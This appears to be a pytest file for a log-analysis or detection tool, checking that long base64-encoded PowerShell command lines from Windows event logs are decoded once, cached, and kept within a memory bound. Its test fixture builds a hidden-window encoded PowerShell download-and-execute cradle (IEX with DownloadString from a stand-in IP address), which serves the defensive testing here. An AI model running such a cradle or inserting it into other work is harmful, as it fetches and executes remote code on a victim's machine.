"""Long command lines and script blocks are decoded once per text (formats/winevent.py):
the same results as decode() itself, in bounded memory."""

from __future__ import annotations

import base64

import pytest

from ashiato.detect import decode
from ashiato.formats import winevent


def _encoded(script: str) -> str:
    blob = base64.b64encode(script.encode("utf-16-le")).decode()
    return f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {blob}"


def test_a_repeated_long_command_gives_what_decode_gives(monkeypatch: pytest.MonkeyPatch) -> None:
    command = _encoded(
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a.ps1')" * 3
    )
    assert len(command) >= winevent._LONG
    calls: list[str] = []
    real = decode.decode

    def counted(text: str | None) -> str | None:
        calls.append(text or "")
        return real(text)

    monkeypatch.setattr(winevent, "_decode_cache", {})
    monkeypatch.setattr(winevent, "_cached_chars", 0)
    monkeypatch.setattr(decode, "decode", counted)
    rows: list[winevent.Row] = [{}, {}]
    for row in rows:
        winevent._decoded(command, row)
    assert rows[0]["decoded"] == rows[1]["decoded"] == real(command)
    assert "DownloadString" in rows[0]["decoded"]
    assert len(calls) == 1  # the second time from the cache
    short: list[winevent.Row] = [{}, {}]
    for row in short:  # short texts are cheap to decode: not kept
        winevent._decoded("powershell -enc SQBFAFgA", row)
    assert len(calls) == 3


def test_the_cache_stays_within_its_size(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(winevent, "_decode_cache", {})
    monkeypatch.setattr(winevent, "_cached_chars", 0)
    monkeypatch.setattr(winevent, "_CACHE_CHARS", 10_000)
    for i in range(200):
        command = _encoded(f"Write-Output {i} " + "x" * 200)
        row: winevent.Row = {}
        winevent._decoded(command, row)
        assert row["decoded"] == decode.decode(command)
        kept = sum(len(k) + len(v or "") for k, v in winevent._decode_cache.items())
        assert kept == winevent._cached_chars <= 10_000
